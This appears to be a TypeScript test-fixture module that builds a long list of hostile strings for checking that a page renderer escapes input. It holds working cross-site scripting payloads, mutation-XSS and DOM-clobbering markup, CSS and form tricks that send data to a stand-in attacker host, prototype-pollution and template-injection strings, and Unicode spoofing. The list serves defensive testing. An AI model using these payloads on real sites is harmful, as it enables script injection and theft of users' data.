/** Leaves a mark and opens a dialog; without quotes, so that it fits into every attribute. */
const RUN = 'window.__hacked=1;alert(1)';
/** The same where only one expression may stand. */
const CALL = 'alert(window.__hacked=1)';

/** What must come out as it went in, and run nowhere. */
export function hostileTexts(evil: string): string[] {
	return [
		...elements(evil),
		...addresses(),
		...attributes(),
		...closers(evil),
		...mutations(evil),
		...styles(evil),
		...data(),
		...oddTexts(),
	];
}

/** Elements that run, load, or lead away by themselves. */
const elements = (evil: string): string[] => [
	`<script>${RUN}</script>`,
	`<script src="${evil}/s.js"></script>`,
	`<ScRiPt/x>${RUN}</sCrIpT >`,
	`<img src=x onerror=${CALL}>`,
	`<img src="${evil}/beacon.png">`,
	`<svg onload=${CALL}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${CALL}"><text y=20>press</text></a></svg>`,
	`<math><mtext></mtext><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>`,
	`<body onload=${CALL}>`,
	`<details open ontoggle=${CALL}><summary>x</summary></details>`,
	`<input autofocus onfocus=${CALL}>`,
	`<video><source onerror=${CALL}></video>`,
	`<audio src=x onerror=${CALL}>`,
	`<marquee onstart=${CALL}>x</marquee>`,
	`<iframe src="javascript:parent.${CALL}"></iframe>`,
	`<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
	`<iframe src="${evil}/frame"></iframe>`,
	`<object data="${evil}/object"></object>`,
	`<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
	`<embed src="${evil}/embed">`,
	`<link rel="stylesheet" href="${evil}/l.css">`,
	`<link rel="import" href="${evil}/import">`,
	`<link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="//evil.invalid">`,
	`<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
	`<meta http-equiv="content-security-policy" content="script-src * 'unsafe-inline'">`,
	`<base href="${evil}/">`,
	`<base target="_self"><a href="${evil}/top" target="_top">leave</a>`,
	`<form action="${evil}/form"><button autofocus>Send</button></form>`,
	`</form><form id="review" action="${evil}/form"><input name="d.0" value="approved">`,
	`<button formaction="javascript:${CALL}" form="review">x</button>`,
	`<button form="review" formaction="${evil}/formaction">Send decisions</button>`,
];

/** For links and pictures above all. */
const addresses = (): string[] => [
	`javascript:${CALL}`,
	` \u0001java\tscript\n:${CALL}`,
	`JaVaScRiPt://%0a${CALL}`,
	`javascript&colon;${CALL}`,
	`data:text/html,<script>parent.${CALL}</script>`,
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
	'vbscript:msgbox(1)',
	'blob:null/00000000-0000-0000-0000-000000000000',
];

/** Ways out of an attribute. */
const attributes = (): string[] => [
	`" onmouseover="${CALL}" autofocus onfocus="${CALL}" x="`,
	`' onmouseover='${CALL}' autofocus onfocus='${CALL}' x='`,
	`\` onmouseover=${CALL} autofocus onfocus=${CALL} x=\``,
	` onfocus=${CALL} autofocus tabindex=1 x=`,
	`"><img src=x onerror=${CALL}>`,
	`'><img src=x onerror=${CALL}>`,
	`&quot;&gt;&lt;img src=x onerror=${CALL}&gt;`,
	`&#34;&#62;&#60;svg/onload=${CALL}&#62;`,
];

/** Ends of elements that hold text only. */
const closers = (evil: string): string[] => [
	`</script><script>${RUN}</script>`,
	`</textarea><script>${RUN}</script>`,
	`</title><svg onload=${CALL}>`,
	`</style><script>${RUN}</script>`,
	`</noscript><img src=x onerror=${CALL}>`,
	`</template><script>${RUN}</script>`,
	`--><script>${RUN}</script><!--`,
	`<!--<script>`,
	`]]><script>${RUN}</script>`,
	`</iframe></body></html><script>${RUN}</script>`,
	`"></iframe><script>${RUN}</script>`,
	`</bdi></h2></article><article data-item="0" id="send"><a href="${evil}/clobbered">x</a>`,
];

/** Markup that becomes something else when it is read a second time. */
const mutations = (evil: string): string[] => [
	`<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
	`<template><script>${RUN}</script></template><img name="getElementById"><img id="review-data">`,
	`<img name="body"><form name="document"><input name="action" value="${evil}"></form>`,
];

const styles = (evil: string): string[] => [
	`<style>@import "${evil}/i.css";*{background:url(${evil}/b.png)}</style>`,
	`<p style="background:url(${evil}/bg.png);width:expression(${CALL})">x</p>`,
	`<div style="position:fixed;inset:0;z-index:9999;background:red">covers all</div>`,
	`;}*{display:none}body{background:url(${evil}/css.png)}`,
];

/** For the data that the document holds for its script, and for what comes back from a form. */
const data = (): string[] => [
	'__proto__',
	'constructor',
	'{"__proto__":{"polluted":1}}',
	`\u2028${RUN}\u2029//`,
	`\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
	`"};${RUN};//`,
	`'-${CALL}-'`,
	`\${${CALL}}`,
	`{{constructor.constructor('${RUN}')()}}`,
	"$& $` $' $1",
	`e.0.0=x&d.1=approved&__proto__=1`,
];

const oddTexts = (): string[] => [
	`\u202e<img src=x onerror=${CALL}>\u202c`,
	`\u2066\u202e gnp.exe \u2069`,
	`nul\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
	`\ufeff<\u0000img src=x onerror=${CALL}>`,
	`\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
	`\ud800 lone \udfff<svg onload=${CALL}>`,
	`+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
	`Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357algo${'\u0300'.repeat(200)}`,
	'W'.repeat(3_000),
	`\r\n\r\n<script>${RUN}</script>`,
];
